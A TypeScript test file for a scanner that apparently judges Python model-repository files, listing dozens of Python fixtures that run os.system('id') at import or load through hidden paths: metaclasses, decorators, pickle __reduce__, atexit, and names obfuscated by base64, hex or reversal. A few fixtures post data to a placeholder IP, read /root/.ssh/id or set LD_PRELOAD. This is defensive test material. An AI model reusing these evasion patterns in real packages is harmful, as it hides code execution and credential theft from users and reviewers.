/**
 * Python that acts on a detour: a function that something else calls, a name that is put together, a class that a
 * loader makes. For each module, the verdict and the way that the finding must name. Inert, and never run.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { judge } from './case.ts';

interface Way {
  readonly source: string;
  readonly way: string;
}

const way = (path: string, source: string): Way => ({ source, way: path });
const os = 'import os\n';
const sub = 'import subprocess\n';

/** Runs a process on import: blocked. */
const AT_IMPORT: readonly Way[] = [
  way(
    'import → setup() → _fetch() → subprocess.run',
    `${sub}def _fetch():\n    subprocess.run(["id"])\ndef setup():\n    _fetch()\nsetup()\n`,
  ),
  way(
    'import → M.__new__() → os.system',
    `${os}class M(type):\n    def __new__(c, *a):\n        os.system("id")\nclass A(metaclass=M): pass\n`,
  ),
  way(
    'import → M.__init__() → os.system',
    `${os}class M(type):\n    def __init__(c, *a):\n        os.system("id")\nclass A(metaclass=M): pass\n`,
  ),
  way(
    'import → B.__init_subclass__() → os.system',
    `${os}class B:\n    def __init_subclass__(cls):\n        os.system("id")\nclass A(B): pass\n`,
  ),
  way(
    'import → R.__init_subclass__() → os.system',
    `${os}class R:\n    def __init_subclass__(cls):\n        os.system("id")\nclass B(R): pass\nclass A(B): pass\n`,
  ),
  way(
    'import → D() → D.__set_name__() → os.system',
    `${os}class D:\n    def __set_name__(self, o, n):\n        os.system("id")\nclass A:\n    x = D()\n`,
  ),
  way('import → __getattr__() → os.system', `${os}def __getattr__(name):\n    os.system("id")\n`),
  way(
    'import → A() → A.__init__() → os.system',
    `${os}class A:\n    def __init__(self):\n        os.system("id")\nA()\n`,
  ),
  way(
    'import → A() → A.__init__() → A._go() → os.system',
    `${os}class A:\n    def __init__(self):\n        self._go()\n    def _go(self):\n        os.system("id")\nA()\n`,
  ),
  way(
    'import → B() → A() → A.__init__() → os.system',
    `${os}class A:\n    def __init__(self):\n        os.system("id")\nclass B(A): pass\nB()\n`,
  ),
  way(
    'import → A() → A.__post_init__() → os.system',
    `${os}class A:\n    def __post_init__(self):\n        os.system("id")\nx = A()\n`,
  ),
  way(
    'import → A() → A.__del__() → os.system',
    `${os}class A:\n    def __del__(self):\n        os.system("id")\nA()\n`,
  ),
  way(
    'import → A.go() → os.system',
    `${os}class A:\n    @staticmethod\n    def go():\n        os.system("id")\nA.go()\n`,
  ),
  way(
    'import → deco() → os.system',
    `${os}def deco(f):\n    os.system("id")\n    return f\n@deco\ndef g(): pass\n`,
  ),
  way(
    'import → deco() → deco.inner() → os.system',
    `${os}def deco(n):\n    def inner(f):\n        os.system("id")\n    return inner\n@deco(1)\ndef g(): pass\n`,
  ),
  way(
    'import → value() → os.system',
    `${os}def value():\n    return os.system("id")\ndef f(x=value()): pass\n`,
  ),
  way(
    'import → value() → os.system',
    `${os}def value(c):\n    return os.system(c)\nX = [value(c) for c in ["id"]]\n`,
  ),
  way(
    'import → value() → os.system',
    `${os}def value():\n    return os.system("id")\nclass A:\n    x: value() = 1\n`,
  ),
  way('import → go() → os.system', `${os}def go():\n    os.system("id")\nf = go\nf()\n`),
  way('import → go() → os.system', `${os}def go():\n    os.system("id")\nfor f in (go,):\n    f()\n`),
  way('import → go() → os.system', `${os}def go():\n    os.system("id")\nD = {"a": go}\nD["a"]()\n`),
  way(
    'import → go() → os.system',
    `${os}import threading\ndef go():\n    os.system("id")\nthreading.Thread(target=go).start()\n`,
  ),
  way(
    'import → go() → os.system',
    `${os}import atexit\ndef go():\n    os.system("id")\natexit.register(go)\n`,
  ),
  way('import → go() → os.system', `${os}def go():\n    os.system("id")\nif True and go(): pass\n`),
  way('import → go() → os.system', `${os}def go():\n    os.system("id")\nx = go() if True else 0\n`),
  way(
    'import → b() → a() → os.system',
    `${os}def a():\n    b()\n    os.system("id")\ndef b():\n    a()\nb()\n`,
  ),
  way('import → os.system', `${os}import atexit\natexit.register(os.system, "id")\n`),
  way('import → os.system', `${os}n = "sys" + "tem"\ngetattr(os, n)("id")\n`),
  way('import → os.system', `${os}n = "metsys"[::-1]\ngetattr(os, n)("id")\n`),
  way('import → os.system', `${os}getattr(os, "".join(["sys", "tem"]))("id")\n`),
  way('import → os.system', `${os}getattr(os, "".join([chr(115), chr(121), "stem"]))("id")\n`),
  way('import → os.system', `${os}import base64\ngetattr(os, base64.b64decode("c3lzdGVt").decode())("id")\n`),
  way('import → os.system', `${os}getattr(os, bytes.fromhex("73797374656d").decode())("id")\n`),
  way('import → os.system', `${os}getattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())("id")\n`),
  way('import → os.system', `${os}getattr(os, "%sstem" % "sy")("id")\n`),
  way('import → os.system', `${os}getattr(os, "{}{}".format("sys", "tem"))("id")\n`),
  way('import → os.system', `${os}getattr(os, "SYSTEM".lower())("id")\n`),
  way('import → os.system', `${os}getattr(os, "sysXtem".replace("X", ""))("id")\n`),
  way('import → os.system', `m = __import__("so"[::-1])\nm.system("id")\n`),
  way('import → os.system', `import codecs\n__import__("bf".encode("rot13")).system("id")\n`),
  way('import → os.system', `exec("import os\\nos.system('id')")\n`),
  way(
    'import → os.system',
    `import base64\nexec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQ=="))\n`,
  ),
  way('import → go() → os.system', `def go():\n    exec("import os; os.system('id')")\ngo()\n`),
  way('import → marshal.loads', `import marshal\nmarshal.loads(b"x")\n`),
];

/** Runs it when a loader makes the object, when the model is used, or when something calls it: not clean. */
const LATER: readonly Way[] = [
  way(
    'load → M.__init__() → pickle.loads',
    'import pickle, base64\nclass M:\n    def __init__(self):\n        pickle.loads(base64.b64decode("gA=="))\n',
  ),
  way(
    'load → M.__init__() → ctypes.CDLL',
    'import ctypes\nclass M:\n    def __init__(self):\n        ctypes.CDLL("./x.so")\n',
  ),
  way(
    'load → EndpointHandler.__init__() → os.system',
    `${os}class EndpointHandler:\n    def __init__(self, path=""):\n        os.system("id")\n`,
  ),
  way(
    'use → EndpointHandler.__call__() → shell() → os.system',
    `${os}def shell(x):\n    os.system(x)\nclass EndpointHandler:\n    def __call__(self, data):\n        shell(data)\n`,
  ),
  way(
    'load → Model.__init__() → Model._warm() → subprocess.Popen',
    `${sub}class Model:\n    def __init__(self):\n        self._warm()\n    def _warm(self):\n        subprocess.Popen(["id"])\n`,
  ),
  way('use → Model.forward() → eval', 'class Model:\n    def forward(self, x):\n        return eval(x)\n'),
  way(
    'load → T.from_pretrained() → os.popen',
    `${os}class T:\n    @classmethod\n    def from_pretrained(cls, p):\n        os.popen("id")\n`,
  ),
  way(
    'load → T.__reduce__() → os.system',
    `${os}class T:\n    def __reduce__(self):\n        return (os.system, ("id",))\n`,
  ),
  way(
    'load → T.__setstate__() → os.system',
    `${os}class T:\n    def __setstate__(self, s):\n        os.system("id")\n`,
  ),
  way('load → T.__del__() → os.system', `${os}class T:\n    def __del__(self):\n        os.system("id")\n`),
  way(
    'use → T._tokenize() → os.system',
    `${os}class T:\n    def _tokenize(self, t):\n        os.system(t)\n`,
  ),
  way('load → model_fn() → os.system', `${os}def model_fn(d):\n    os.system("id")\n`),
  way(
    'use → M.forward() → Base.fetch() → os.system',
    `${os}class Base:\n    def fetch(self):\n        os.system("id")\nclass M(Base):\n    def forward(self):\n        self.fetch()\n`,
  ),
  way(
    'load → Base.__init__() → os.system',
    `${os}class Base:\n    def __init__(self):\n        os.system("id")\nclass M(Base):\n    def __init__(self):\n        super().__init__()\n`,
  ),
  way(
    'use → M.forward() → requests.post',
    'import requests\nclass M:\n    def forward(self, x):\n        requests.post("http://203.0.113.1", data=x)\n',
  ),
  way(
    'load → M.__init__() → socket.socket',
    'import socket\nclass M:\n    def __init__(self):\n        self.s = socket.socket()\n',
  ),
  way(
    'use → M.forward() → os.system',
    'class M:\n    def forward(self, x):\n        exec("import os; os.system(\'id\')")\n',
  ),
  way('odd() → os.system', `${os}def odd():\n    os.system("id")\n`),
  way('import → LD_PRELOAD', `${os}os.environ["LD_PRELOAD"] = "./x.so"\n`),
  way(
    'load → M.__init__() → .ssh',
    'class M:\n    def __init__(self):\n        self.k = open("/root/.ssh/id").read()\n',
  ),
  way(
    '__main__() → main() → subprocess.run',
    `${sub}def main():\n    subprocess.run(["id"])\nif __name__ == "__main__":\n    main()\n`,
  ),
];

async function messages(source: string) {
  const { verdict, findings } = await judge([{ path: 'modeling_x.py', content: source }]);
  return { verdict, text: findings.map(({ message }) => message).join('\n') };
}

describe('Python that acts at import on a detour is blocked, and the finding names the way', () => {
  for (const { source, way: path } of AT_IMPORT) {
    it(`${path}: ${JSON.stringify(source)}`, async () => {
      const { verdict, text } = await messages(source);
      assert.equal(verdict, 'blocked', text);
      assert.ok(text.includes(path), text);
    });
  }
});

describe('Python that acts later is not clean, and the finding names the way', () => {
  for (const { source, way: path } of LATER) {
    it(`${path}: ${JSON.stringify(source)}`, async () => {
      const { verdict, text } = await messages(source);
      assert.equal(verdict, 'inconclusive', text);
      assert.ok(text.includes(path), text);
    });
  }
});

describe('the way', () => {
  it('of a thousand calls is shown by its ends', async () => {
    const calls = Array.from({ length: 1000 }, (_, at) => `def f${at}():\n    f${at + 1}()\n`).join('');
    const { verdict, text } = await messages(`${os}${calls}def f1000():\n    os.system("id")\nf0()\n`);
    assert.equal(verdict, 'blocked');
    assert.match(
      text,
      /import → f0\(\) → f1\(\) → … → f997\(\) → f998\(\) → f999\(\) → f1000\(\) → os\.system/,
    );
  });

  it('of ten thousand functions that all call each other ends', async () => {
    const start = performance.now();
    const all = Array.from(
      { length: 3000 },
      (_, at) => `def f${at}():\n    f${(at * 7) % 3000}(); f${(at * 13) % 3000}()\n`,
    );
    const { verdict } = await messages(`${os}${all.join('')}def g():\n    os.system("id")\nf1()\n`);
    assert.equal(verdict, 'inconclusive');
    assert.ok(performance.now() - start < 10_000);
  });

  it('is not kept out by a guard that is none', async () => {
    for (const guard of [
      'if __name__ != "__main__":',
      '__name__ = "__main__"\nif __name__ == "__main__":',
      'if __name__ == "__main__" or True:',
      'globals()["__name__"] = "__main__"\nif __name__ == "__main__":',
    ])
      assert.equal((await messages(`${os}${guard}\n    os.system("id")\n`)).verdict, 'blocked', guard);
    assert.equal(
      (await messages(`${os}if __name__ == "__main__":\n    pass\nelse:\n    os.system("id")\n`)).verdict,
      'blocked',
    );
  });
});

describe('what a module hands on is not clean', () => {
  for (const source of [
    'from os import system as go\n',
    'from subprocess import run\n',
    'from builtins import exec as go\n',
  ])
    it(JSON.stringify(source), async () => assert.equal((await messages(source)).verdict, 'inconclusive'));

  it('and what is taken from a module of the repo counts as what it says', async () => {
    for (const name of [
      'os.system("id")',
      'subprocess.run(["id"])',
      'requests.get("http://203.0.113.1")',
      'exec("import os")',
    ]) {
      const taken = name.split(/[.(]/, 1)[0] ?? '';
      assert.notEqual((await messages(`from .util import ${taken}\n${name}\n`)).verdict, 'clean', name);
    }
  });
});
